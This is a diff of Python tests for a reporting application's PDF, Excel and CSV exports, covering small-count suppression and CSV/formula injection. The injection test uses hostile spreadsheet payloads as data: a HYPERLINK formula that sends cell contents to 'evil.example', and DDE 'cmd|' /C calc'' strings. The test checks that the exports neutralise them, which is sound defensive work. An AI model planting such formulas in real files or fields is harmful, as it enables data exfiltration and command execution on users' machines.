@@ -174,20 +174,27 @@ def test_pdf_excel_and_csv_of_a_draft_and_of_one_municipality(app_ctx, org, peri
     assert_accessible_pdf(part_pdf, "Sosiaalisen raportoinnin puolivuotiskooste 1.1.–30.6.2026 – Siilinjärvi")
     part = PdfReader(io.BytesIO(part_pdf))
     part_text = "\n".join(page.extract_text() for page in part.pages)
-    assert "Kuljetukset puuttuvat." in part_text and "Vuokrat ylittävät asumistuen rajat." not in part_text
+    # Siilinjärvi has one report: no figures of its own, and no report text is ever printed
+    assert "raportteja oli kaudella alle 5" in part_text
+    assert "Kuljetukset puuttuvat." not in part_text and "Vuokrat ylittävät asumistuen rajat." not in part_text
+    assert "Kuljetukset puuttuvat." not in text
 
     book = openpyxl.load_workbook(io.BytesIO(compilation_export.render_xlsx(content)))
     assert {"Yhteenveto", "Raportoitava ilmiö", "Teemat", "Kunta", "Käsittelytaso"} <= set(book.sheetnames)
     themes = {row[0]: row[2] for row in book["Teemat"].iter_rows(min_row=2, values_only=True)}
     assert themes["housing"] == 2
-    lines = compilation_export.render_csv(content, "297").decode("utf-8-sig").splitlines()
-    assert "2026-H1;297;nature;negative;Kielteinen ilmiö;1;0,5000;1;0;0,0" in lines
+    lines = compilation_export.render_csv(content).decode("utf-8-sig").splitlines()
+    assert "2026-H1;;nature;negative;Kielteinen ilmiö;2;0,6667;1;1;" in lines  # under 10 reports: no per cent
+    places = {line.split(";")[3]: line.split(";")[5:] for line in lines if ";municipalities;" in line}
+    assert places["297"][0] == "<5" and places["749"][0] == "<5"  # a place's small count is hidden
+    assert compilation_export.render_csv(content, "297").decode("utf-8-sig").splitlines()[1:] == [
+        "2026-H1;297;total;reports;Raportteja yhteensä;<5;;<5;;"]  # too few for figures of its own
 
 
 def test_names_that_a_spreadsheet_would_run_are_text_in_excel_and_csv(app_ctx, org, period_data):
     """Unit, forum and theme names come from administrators' input (or an imported file): never formulas."""
     link = '=HYPERLINK("http://evil.example/?d="&A1;"Avaa")'
-    org["unit"].name = link
+    org["unit"].division.name = link
     org["forum"].name = "@SUM(1+1)*cmd|' /C calc'!A0"
     db.session.scalar(sa.select(Theme).where(Theme.code == "housing")).label_fi = "+cmd|' /C calc'!A0"
     perform(Action.START_HANDLING, period_data["named"], org["handler"], now=at(2, 2))
@@ -207,7 +214,7 @@ def test_names_that_a_spreadsheet_would_run_are_text_in_excel_and_csv(app_ctx, o
 
     rows = list(csv.reader(io.StringIO(compilation_export.render_csv(content).decode("utf-8-sig")), delimiter=";"))
     labels = {(row[2], row[3]): row[4] for row in rows[1:]}
-    assert labels[("unit", "U-KUO")] == "'" + link
+    assert labels[("division", org["unit"].division.code)] == "'" + link
     assert labels[("forum", "RSTR")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
     assert labels[("themes", "housing")] == "'+cmd|' /C calc'!A0"
     assert not [row for row in rows if any(cell.startswith(("=", "@", "+")) for cell in row)]
